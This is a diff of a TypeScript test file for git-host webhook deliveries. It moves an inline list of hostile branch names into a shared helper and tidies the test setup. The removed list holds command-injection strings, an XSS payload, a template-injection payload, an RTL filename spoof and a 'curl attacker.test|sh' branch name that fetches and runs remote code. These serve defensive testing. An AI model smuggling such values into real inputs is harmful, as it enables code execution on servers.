@@ -1,34 +1,14 @@
 // Genuine deliveries of every git host with what nobody should send: taken as it is, or for nothing, and never a fault of ours.
-import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { describe, expect, test } from 'vitest'
 import { databases } from '../../../test/databases.ts'
 import { buildEnvironment } from '../../../test/factories.ts'
 import { deliverAs, dialects } from '../../../test/git-host-dialects.ts'
-import { buildHookedProject, commit, type HookedProject, NONE, SECRET, stateOf } from '../../../test/git-host-events.ts'
-import { hostileBranches } from '../../../test/hostile-branches.ts'
-import { openTestApp, type TestApp } from '../../../test/test-app.ts'
+import { buildHookedProject, commit, NONE, SECRET, stateOf } from '../../../test/git-host-events.ts'
+import { hostileBranches, literalBranches } from '../../../test/hostile-branches.ts'
+import { builtBeforeAll } from '../../../test/stage/built-before.ts'
+import { stageApp } from '../../../test/stage/stage-app.ts'
 
-const literalBranches = [
-  'main$(id)',
-  'main`id`',
-  'main${IFS}id',
-  'main|id',
-  'main&&id',
-  'main<x',
-  "main'id",
-  'main"id',
-  'main#id',
-  'main%0aid',
-  '<script>alert(1)</script>',
-  "{{constructor.constructor('return(1)')()}}",
-  'feat/#123',
-  'ümlaut/日本語',
-  'rtl\u202egnp.exe',
-  'refs/heads/main',
-  '@',
-  'main$(curl${IFS}attacker.test|sh)',
-  'constructor',
-  '__proto__',
-]
+const takenBranches = [...literalBranches, 'constructor', '__proto__']
 
 const refusedBranches = [...hostileBranches, 'HEAD', 'main\u009b2J', 'main\ud800', 'x'.repeat(256)]
 
@@ -92,21 +72,13 @@ const bodies = [
 ] as const
 
 describe.each(databases)('hostile deliveries on $name', (source) => {
-  let app: TestApp
-
-  beforeAll(async () => {
-    app = await openTestApp(source)
-  })
-  afterAll(() => app.close())
+  const app = stageApp(source)
 
   describe.each(dialects)('of $name', (dialect) => {
-    let project: HookedProject
+    const { repository_host } = dialect
+    const overrides = { repository_host, environment_limit: 1000 }
+    let project = builtBeforeAll(() => buildHookedProject(app.ctx, overrides))
     let number = 100
-
-    beforeAll(async () => {
-      const { repository_host } = dialect
-      project = await buildHookedProject(app.ctx, { repository_host, environment_limit: 1000 })
-    })
 
     const tell = async (told: { event: string; payload: unknown }, headers = {}) => {
       const { status, body } = await deliverAs(dialect, { app, hookId: project.hook_id }, told, { headers })
@@ -192,7 +164,7 @@ describe.each(databases)('hostile deliveries on $name', (source) => {
       await comeToNothing('invalid_ref', { event, payload: body })
     })
 
-    test.each(literalBranches)('the branch %j is taken as it is', async (branch) => {
+    test.each(takenBranches)('the branch %j is taken as it is', async (branch) => {
       number += 1
       expect(await tell(dialect.pullRequest({ branch, number }))).toEqual({ verdict: 'accepted', reason: null })
       await buildEnvironment(app.ctx, project, { branch, name: `follows-${number}` })
